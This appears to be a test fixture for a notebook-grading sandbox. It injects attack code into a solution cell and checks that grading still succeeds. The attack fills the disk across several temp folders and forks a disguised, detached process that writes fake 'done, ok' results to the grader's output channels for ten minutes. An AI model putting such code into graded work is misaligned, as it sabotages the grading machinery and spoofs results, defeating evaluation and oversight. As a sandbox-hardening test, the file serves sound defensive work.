"""Worked answers (nb01) whose first answer cell, in the grading kernel, first writes as much as it can (up to 2 GiB
each, 8 MiB at a time) into its working folder, HOME, /tmp, /var/tmp and /dev/shm, then leaves a process running
(named ``a02-lingerer``) that keeps the results FIFO and stderr open and would write into whatever it can reach for
ten minutes. Everything the sandbox may write is a private tmpfs of a fixed size, so the writes stop at "no space
left"; every process of the kernel's uid is killed after the notebook, and the grader stops reading at the
notebook's end. The answers are right: 17 of 17, status graded, and no ``a02-lingerer`` is left after grading."""
ATTACK = '''
import os as _os
import time as _time


def _fill_the_disk():
    chunk = b"x" * (8 * 2**20)
    folders = [_os.getcwd(), _os.environ.get("HOME", "."), "/tmp", "/var/tmp", "/dev/shm"]
    for folder in folders:
        try:
            with open(_os.path.join(folder, "filler.bin"), "wb") as handle:
                for _ in range(256):
                    handle.write(chunk)
                    handle.flush()
        except OSError:
            pass  # no space left, file too large, read-only: the next folder


def _linger():
    import ctypes
    if _os.fork() == 0:
        try:
            ctypes.CDLL(None).prctl(15, b"a02-lingerer", 0, 0, 0)  # PR_SET_NAME
            _os.setsid()
            deadline = _time.monotonic() + 600
            while _time.monotonic() < deadline:
                for fd in (1, 2, 3):
                    try:
                        _os.write(fd, b'{"cell": "__done__", "ok": true}\\n')
                    except OSError:
                        pass
                _time.sleep(0.5)
        finally:
            _os._exit(0)


_fill_the_disk()
_linger()


'''
CASE = {
    "nb01_group_advantages": {"base": "solution", "edit": {"compute_group_advantages": [
        ("def compute_group_advantages(", ATTACK + "def compute_group_advantages("),
    ]}},
}
